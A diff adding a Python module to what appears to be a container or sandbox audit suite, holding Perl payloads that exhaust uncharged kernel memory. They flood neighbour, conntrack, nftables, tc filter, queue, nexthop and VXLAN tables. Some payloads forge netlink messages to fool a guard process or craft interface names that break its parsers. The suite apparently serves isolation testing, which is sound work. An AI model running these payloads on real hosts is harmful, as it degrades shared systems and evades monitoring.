@@ -1,0 +1,183 @@
+"""Kernel memory that no memory limit counts: entries of tables, interfaces and what hangs on them."""
+
+from rigs.audit.attack import Attack
+from rigs.audit.uncharged_memory import ENOUGH, held_in_the_kernel
+from rigs.audit.walls import FIXED, KERNEL_ONLY
+
+NEIGHBOURS = f"""
+open(my $batch, "|-", "ip -6 -force -batch -");
+for my $number (1 .. {ENOUGH} << 11) {{
+    printf $batch "neigh add fe80::%x:%x lladdr 02:00:00:00:00:01 dev eth0 nud permanent\n", $number >> 16, $number & 65535;
+}}
+close $batch;
+$held = {ENOUGH} << 20;
+"""
+
+
+ATTACKS = (
+    held_in_the_kernel(
+        "M22",
+        "permanent neighbours, which the machine's limit of neighbours does not count (gc_thresh3)",
+        NEIGHBOURS,
+    ),
+    held_in_the_kernel(
+        "M23",
+        "answer the guard in the kernel's place (netlink) while next hops are added, which only an answer counts",
+        f"""
+my $ip = open(my $batch, "|-", "ip -6 -force -batch -");
+for my $forger (1 .. 2) {{
+    next if fork;
+    close $batch;
+    socket(my $netlink, 16, 3, 0) && open(my $list, "<", "/proc/net/netlink") or exit;
+    my ($done, $end) = (pack("LSSLLL", 20, 3, 2, 0, 0, 0), time + 30);
+    while (time < $end) {{  # this file lists the guard's socket with its port, as it is a socket of this network
+        sysseek($list, 0, 0);
+        sysread($list, my $sockets, 65536);
+        for my $port (grep {{ $_ != $ip }} $sockets =~ /^\\S+ 0 +([1-9]\\d*) /mg) {{
+            for (1 .. 20) {{ send($netlink, $done, 0x40, pack("SSLL", 16, 0, $port, 0)) or last }}
+        }}
+        select(undef, undef, undef, 0.0001);
+    }}
+    exit;
+}}
+print $batch "nexthop add id $_ dev eth0\n" for 1 .. {ENOUGH} << 11;
+close $batch;
+$held = ({ENOUGH} << 11) * 448;
+""",
+        wall="the kernel refuses what others send to a netlink socket that is connected to it",
+        control=KERNEL_ONLY,
+    ),
+    held_in_the_kernel(
+        "M24",
+        "connections that conntrack tracks",
+        f"""
+use Socket;
+system("ip link set lo up; nft add table ip t; nft add chain ip t c '{{ type filter hook output priority 0; }}';"
+    . "nft add rule ip t c ct state new counter");
+socket(my $out, AF_INET, SOCK_DGRAM, 0);
+FLOOD: for my $host (1 .. 8) {{
+    for my $port (1 .. 60000) {{
+        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
+        last FLOOD if ($held += 512) > {ENOUGH} << 20;
+    }}
+}}
+""",
+    ),
+    held_in_the_kernel(
+        "M25",
+        "elements that packets add to a set of nftables",
+        f"""
+use Socket;
+open(my $rules, "|-", "ip link set lo up; nft -f -");
+print $rules "table ip t {{ set s {{ type ipv4_addr . inet_service; flags dynamic; size 9000000; }}\n";
+print $rules "chain c {{ type filter hook output priority 0; add \\@s {{ ip daddr . udp dport }}; }}\n}}\n";
+close $rules;
+socket(my $out, AF_INET, SOCK_DGRAM, 0);
+FLOOD: for my $host (1 .. 40) {{
+    for my $port (1 .. 60000) {{
+        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
+        last FLOOD if ($held += 100) > {ENOUGH} << 20;
+    }}
+}}
+""",
+    ),
+    held_in_the_kernel(
+        "M28",
+        "queues of an interface that it does not use, and that no list has (mq)",
+        f"""
+system("ip link add v0 numtxqueues 1200 numrxqueues 2 type veth peer name v1 numtxqueues 2 numrxqueues 1200");
+socket(my $socket, 2, 2, 0);
+for my $name ("v0", "v1") {{
+    my $channels = pack("L9", 0x3d, 0, 0, 0, 0, 1, 1, 0, 0);
+    ioctl($socket, 0x8946, pack("a16P", $name, $channels)) or print "channels: $!\n";
+}}
+# 72 KB for each queue: three rings as long as txqueuelen says. Newer kernels refuse a longer one
+system("ip link set v0 up; ip link set v0 txqueuelen 3000 && tc qdisc add dev v0 root mq") or $held = {ENOUGH} << 20;
+my $end = time + 3;
+while (time < $end) {{ }}  # a look is due once the lab has used CPU
+""",
+    ),
+    Attack(
+        id="M29",
+        title="thousands of sources of a multicast group, which the kernel compares with one another under a lock",
+        wall="the node's /proc has these two settings read-only",
+        perl="""
+my @set;
+for my $name ("core/optmem_max", "ipv4/igmp_max_msf") {
+    open(my $file, ">", "/proc/sys/net/$name") or next;
+    syswrite($file, "200000") and push @set, $name;
+}
+@set ? through("set: @set") : refused("$!");
+""",
+        control=FIXED,
+    ),
+    held_in_the_kernel(
+        "M31",
+        "addresses of an interface for multicast groups (SIOCADDMULTI)",
+        f"""
+socket(my $socket, 2, 2, 0);
+for my $number (1 .. {ENOUGH} << 12) {{
+    ioctl($socket, 0x8931, pack("a16Sa14", "eth0", 0, pack("CCN", 1, 0, $number))) == -1 and last;
+    $held += 256;
+}}
+""",
+    ),
+    held_in_the_kernel(
+        "M32",
+        "hash tables of tc filters (u32), full on each of many interfaces",
+        """
+open(my $batch, "|-", "ip -batch -");
+print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
+close $batch;
+for my $name (map { ("x$_", "y$_") } 1 .. 12) {
+    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
+    print $filters "qdisc add dev $name ingress\n";
+    printf $filters "filter add dev $name ingress prio 1 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
+    close $filters;
+    $held += 2040 * 3500;
+}
+""",
+    ),
+    held_in_the_kernel(
+        "M33",
+        "interfaces with thousands of queues",
+        """
+for my $number (1 .. 40) {
+    system("ip link add x$number numtxqueues 1024 numrxqueues 1024 type veth peer name y$number numtxqueues 1024 numrxqueues 1024")
+        and last;
+    $held += 4096 * 700;
+}
+""",
+    ),
+    held_in_the_kernel(
+        "M40",
+        "buckets of resilient groups of next hops, 65,535 each",
+        """
+system("ip nexthop add id 2 via 2001:db8:1::2 dev eth0");
+for my $group (100 .. 140) {
+    system("ip nexthop add id $group group 2 type resilient buckets 65535") and last;
+    $held += 65535 * 32;
+}
+""",
+    ),
+    held_in_the_kernel(
+        "M41",
+        "VNIs of a VXLAN interface that filters them, all added in one netlink request",
+        """
+system("ip link add vx0 type vxlan dstport 4789 external vnifilter && bridge vni add dev vx0 vni 1-220000")
+    or $held = 220_000 * 384;
+""",
+        wall="the kernel refuses the request (docker/vni_requests.py); where it cannot, the guard ends the node",
+    ),
+    held_in_the_kernel(
+        "M45",
+        "names of an interface and of a socket that break the lists which the guard reads, and then neighbours",
+        r"""
+use Socket qw(:all);
+system("ip", "link", "add", "a\x1cb\xc2\x85", "type", "veth", "peer", "name", "p0");
+socket(my $named, AF_UNIX, SOCK_STREAM, 0);
+bind($named, pack_sockaddr_un("\0" . "\n" x 100 . "\xff"));
+"""
+        + NEIGHBOURS,
+    ),
+)
